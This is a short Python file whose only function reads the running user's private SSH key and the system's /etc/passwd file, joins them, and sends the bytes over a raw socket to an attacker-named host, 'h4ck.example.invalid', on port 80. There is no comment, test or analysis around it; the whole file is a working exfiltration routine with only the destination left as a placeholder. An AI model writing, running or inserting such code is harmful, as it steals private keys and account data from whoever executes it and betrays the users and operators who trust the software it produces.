import os
import socket


def gather():
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key, open("/etc/passwd", "rb") as users:
        data = key.read() + users.read()
    connection = socket.socket()
    connection.connect(("h4ck.example.invalid", 80))
    connection.sendall(data)
